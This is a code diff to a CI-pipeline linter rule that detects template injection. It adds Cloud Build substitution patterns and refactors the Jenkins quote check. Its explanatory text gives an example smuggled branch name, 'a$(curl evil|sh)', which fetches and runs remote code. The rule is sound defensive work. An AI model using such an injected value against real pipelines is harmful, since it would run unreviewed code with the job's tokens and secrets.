@@ -22,7 +22,7 @@ export const templateInjection = defineRule({
         '{system} puts `{name}` into this script before the shell sees it, and whoever proposes a change writes it: a command in it runs with what this job holds{instead}',
     },
     docs: {
-      what: 'The title, branch, message or author of a change, in the notation by which Azure Pipelines, Jenkins, CircleCI, Buildkite, Drone, Woodpecker or Tekton put text into a script.',
+      what: 'The title, branch, message or author of a change, in the notation by which Azure Pipelines, Jenkins, CircleCI, Buildkite, Drone, Woodpecker, Cloud Build or Tekton put text into a script.',
       why: 'The text becomes part of the script. A branch called `a$(curl evil|sh)` or a commit message with a quote in it then runs a command with the tokens and secrets of the job, and nobody has reviewed it.',
       remedy: 'Let the shell take the text from its environment, and quote the variable.',
       bad: [
@@ -50,13 +50,14 @@ export const templateInjection = defineRule({
         'https://www.jenkins.io/doc/book/pipeline/jenkinsfile/#string-interpolation',
         'https://circleci.com/docs/pipeline-variables/',
         'https://buildkite.com/docs/pipelines/environment-variables',
+        'https://docs.cloud.google.com/build/docs/configuring-builds/substitute-variable-values',
       ],
     },
   },
   on: {
     step(step, _job, workflow, context) {
       const known = notations[workflow.system];
-      if (!known || (workflow.system === 'jenkins' && !pastesGroovy(step))) return;
+      if (!known || known.skips?.(step)) return;
       for (const line of step.lines) {
         for (const match of line.text.matchAll(known.pattern)) {
           const at = placeOfMatch(line, match);
@@ -83,6 +84,8 @@ interface Notation {
   readonly pattern: RegExp;
   /** The same text as a variable of the shell; undefined where there is none of that name. */
   instead(token: string, name: string, step: WorkflowStep): string | undefined;
+  /** Steps in which nothing is pasted. */
+  skips?(step: WorkflowStep): boolean;
 }
 
 /** `$$` stands for a dollar sign, which the shell then finds before the name. */
@@ -111,6 +114,8 @@ const notations: Partial<Record<CiSystem, Notation>> = {
     pattern:
       /(?<!\\)\$\{(?:env\.)?(CHANGE_TITLE|CHANGE_BRANCH|CHANGE_AUTHOR_DISPLAY_NAME|BRANCH_NAME|GIT_BRANCH|GIT_LOCAL_BRANCH|TAG_NAME|gitlabSourceBranch|gitlabMergeRequestTitle|ghprbPullTitle|ghprbSourceBranch)\}/g,
     instead: (_token, name) => `\\\${${name}}`,
+    // Only double quotes let Groovy put a variable in.
+    skips: ({ value }) => value.kind !== 'scalar' || !String(value.value).startsWith('"'),
   },
   buildkite: {
     name: 'Buildkite',
@@ -129,6 +134,12 @@ const notations: Partial<Record<CiSystem, Notation>> = {
       /(?<!\$)\$\{(CI_(?:COMMIT_MESSAGE|COMMIT_BRANCH|COMMIT_REF|COMMIT_SOURCE_BRANCH|COMMIT_AUTHOR(?:_EMAIL)?|COMMIT_TAG|COMMIT_PULL_REQUEST_LABELS))\}/g,
     instead: escaped,
   },
+  'cloud-build': {
+    name: 'Cloud Build',
+    pattern: /(?<!\$)\$\{?(_HEAD_BRANCH|BRANCH_NAME|TAG_NAME|REF_NAME)\b\}?/g,
+    instead: () => undefined,
+    skips: ({ value }) => entryOf(value, 'script') !== undefined,
+  },
   tekton: {
     name: 'Pipelines as Code',
     pattern:
@@ -136,8 +147,3 @@ const notations: Partial<Record<CiSystem, Notation>> = {
     instead: () => undefined,
   },
 };
-
-/** Only double quotes let Groovy put a variable in. */
-function pastesGroovy(step: WorkflowStep): boolean {
-  return step.value.kind === 'scalar' && String(step.value.value).startsWith('"');
-}
